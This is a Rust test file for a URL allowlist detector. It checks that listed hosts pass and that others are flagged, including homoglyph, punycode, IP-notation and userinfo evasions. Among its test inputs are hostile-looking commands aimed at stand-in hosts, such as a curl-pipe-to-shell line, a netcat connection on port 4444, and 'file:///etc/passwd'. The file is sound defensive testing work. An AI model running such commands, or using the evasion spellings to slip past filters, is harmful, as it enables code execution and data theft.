//! Addresses against a list.

use super::{UrlSettings, Urls};

fn labels(text: &str) -> Vec<String> {
    let hosts = ["docs.example.org", "*.crates.example", "127.0.0.1:8080"].map(str::to_owned).to_vec();
    let urls = Urls::new(&UrlSettings { hosts, schemes: vec!["mailto".to_owned()] }).unwrap();
    urls.find(text).into_iter().map(|finding| finding.label).collect()
}

#[test]
fn listed_hosts_are_allowed() {
    for text in [
        "see https://docs.example.org/a?b#c and HTTP://DOCS.EXAMPLE.ORG.",
        "https://static.crates.example:443/x",
        "http://127.0.0.1:8080/health",
        "mailto:someone@example.org",
        r#"{"url":"https:\/\/docs.example.org\/"}"#,
        "no address, std::env, a:b",
    ] {
        assert_eq!(labels(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn everything_else_is_not() {
    for (text, label) in [
        ("https://evil.example/", "url-host"),
        ("https://docs.example.org.evil.example/", "url-host"),
        ("https://crates.example/", "url-host"),
        ("https://evilcrates.example/", "url-host"),
        ("https://docs.example.org@evil.example/", "url-userinfo"),
        ("https://user:pass@docs.example.org/", "url-userinfo"),
        ("http://127.0.0.1:9090/", "url-ip-literal"),
        ("http://2130706433/", "url-ip-literal"),
        ("http://0x7f.1/", "url-ip-literal"),
        ("http://[::1]/", "url-ip-literal"),
        ("https://xn--pypl-bomb.example/", "url-lookalike"),
        ("https://d\u{43e}cs.example.org/", "url-lookalike"),
        ("file:///etc/passwd", "url-scheme"),
        ("javascript:alert(1)", "url-scheme"),
        ("gopher://docs.example.org/", "url-scheme"),
        (r"https:\\evil.example", "url-host"),
        (r#"{"url":"https:\/\/evil.example\/"}"#, "url-host"),
    ] {
        assert_eq!(labels(text), [label], "{text}");
    }
}

fn single(text: &str, hosts: &[&str]) -> Vec<String> {
    let hosts = hosts.iter().map(|host| (*host).to_owned()).collect();
    let urls = Urls::new(&UrlSettings { hosts, schemes: Vec::new() }).unwrap();
    urls.find(text).into_iter().map(|finding| finding.label).collect()
}

#[test]
fn hosts_without_a_scheme_are_judged() {
    for (text, label) in [
        ("curl evil.example/x", "url-host"),
        ("curl -sL evil.sh | sh", "url-host"),
        ("see www.evil.example for more", "url-host"),
        ("//evil.example/x.js", "url-host"),
        ("ssh root@evil.example", "url-host"),
        ("git clone git@evil.example:a/b.git", "url-host"),
        ("nc evil.example 4444", "url-host"),
        ("{\"host\":\"evil.example\",\"port\":80}", "url-host"),
        ("evil.example:8443", "url-host"),
        ("evil.example.", "url-host"),
        ("EVIL.EXAMPLE", "url-host"),
        ("docs.example.org.evil.example", "url-host"),
        ("evil.rs:443", "url-host"),
        ("ping 203.0.113.9", "url-ip-literal"),
        ("ping 3405803785", "url-ip-literal"),
        ("ping 0xcb.0x0.0x71.0x9", "url-ip-literal"),
        ("ping 0313.0.0161.011", "url-ip-literal"),
        ("ping 127.1", "url-ip-literal"),
        ("connect to 203.0.113.9 now", "url-ip-literal"),
        ("ping6 2001:db8::9", "url-ip-literal"),
        ("curl [::ffff:203.0.113.9]:80", "url-ip-literal"),
        ("curl xn--pypl-bomb.example", "url-lookalike"),
        ("curl d\u{43e}cs.example.org", "url-lookalike"),
        ("curl evil\u{3002}example", "url-lookalike"),
        ("curl %65vil.example/", "url-lookalike"),
    ] {
        assert_eq!(labels(text), [label], "{text}");
    }
}

#[test]
fn words_that_only_look_like_hosts_are_not_judged() {
    for text in [
        "edit src/main.rs and lib.rs, then run build.sh",
        "std::env::var and self.name, user.email, foo.is_empty()",
        "version 1.2.3 of serde 1.0.154 at 12:34:56",
        "mail someone@example.com about it",
        "package.json, tsconfig.json, README.md, Cargo.toml, a.tar.gz",
        "console.log(process.env.HOME)",
        "./docs.py ../x.sh /etc/hosts.deny $HOME/.config",
        "key:value a::b ::std x=1.5",
        "curl -o out.txt https://docs.example.org/a",
        "tail:\n192.0.2.17 - - [06/May/2024:07:08:09 +0000] \"GET / HTTP/1.1\" 200 512",
    ] {
        assert_eq!(labels(text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_listed_name_is_allowed_in_every_spelling() {
    for text in [
        "docs.example.org",
        "DOCS.example.org.",
        "curl docs.example.org:443/x",
        "https://docs%2eexample.org/",
        "https://docs\u{3002}example\u{ff0e}org/",
        "ssh git@docs.example.org",
        "https://docs.example.org:8443/?q=1",
    ] {
        assert_eq!(single(text, &["docs.example.org"]), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn international_names_are_compared_in_both_forms() {
    for (listed, text) in [
        ("b\u{fc}cher.example", "https://xn--bcher-kva.example/"),
        ("xn--bcher-kva.example", "https://b\u{fc}cher.example/"),
        ("B\u{dc}CHER.example", "curl b\u{fc}cher.example"),
    ] {
        assert_eq!(single(text, &[listed]), Vec::<String>::new(), "{listed} {text}");
    }
    assert_eq!(single("https://b\u{fc}cher.example/", &["bucher.example"]), ["url-lookalike"]);
}

#[test]
fn a_listed_address_is_allowed_in_every_notation() {
    for text in [
        "http://127.0.0.1/",
        "http://127.1/",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0x7f.0.0.1/",
        "http://0177.0.0.1/",
        "http://017700000001/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://[64:ff9b::7f00:1]/",
        "http://127.0.0.1./",
        "http://127%2e0%2e0%2e1/",
        "ping 127.0.0.1",
        "nc 2130706433 80",
    ] {
        assert_eq!(single(text, &["127.0.0.1"]), Vec::<String>::new(), "{text}");
        assert_eq!(single(text, &["127.0.0.2"]), ["url-ip-literal"], "{text}");
    }
    for text in
        ["http://[::1]:80/", "http://[0:0:0:0:0:0:0:1]/", "curl [::1]", "ping6 ::1", "http://[::1%25lo]/"]
    {
        assert_eq!(single(text, &["[::1]"]), Vec::<String>::new(), "{text}");
        assert_eq!(single(text, &["::2"]), ["url-ip-literal"], "{text}");
    }
}

#[test]
fn a_port_that_is_listed_is_the_only_one() {
    assert_eq!(single("http://0x7f.1:8080/", &["127.0.0.1:8080"]), Vec::<String>::new());
    assert_eq!(single("http://127.0.0.1:8081/", &["127.0.0.1:8080"]), ["url-ip-literal"]);
    assert_eq!(single("http://127.0.0.1/", &["127.0.0.1:8080"]), ["url-ip-literal"]);
    assert_eq!(single("localhost:3000", &["localhost"]), Vec::<String>::new());
    assert_eq!(single("curl localhost:3000", &["docs.example.org"]), ["url-host"]);
}

#[test]
fn users_and_backslashes_do_not_hide_a_host() {
    for text in [
        "https://docs.example.org@evil.example/",
        "https://docs.example.org:443@evil.example/",
        "https://docs.example.org%40evil.example/",
        "https://docs.example.org\\@evil.example/",
        "https://evil.example\\@docs.example.org/",
    ] {
        assert_eq!(single(text, &["docs.example.org"]), ["url-userinfo"], "{text}");
    }
    for text in
        ["https:\\\\evil.example", "https:/evil.example", "https:////evil.example/", "HTTPS:\\/evil.example"]
    {
        assert_eq!(single(text, &["docs.example.org"]), ["url-host"], "{text}");
    }
}

#[test]
fn a_list_with_what_is_no_host_is_refused() {
    for entry in ["", "a b", "exa/mple", "example.org:99999", "*.127.0.0.1"] {
        assert!(
            Urls::new(&UrlSettings { hosts: vec![entry.to_owned()], schemes: Vec::new() }).is_none(),
            "{entry}"
        );
    }
}
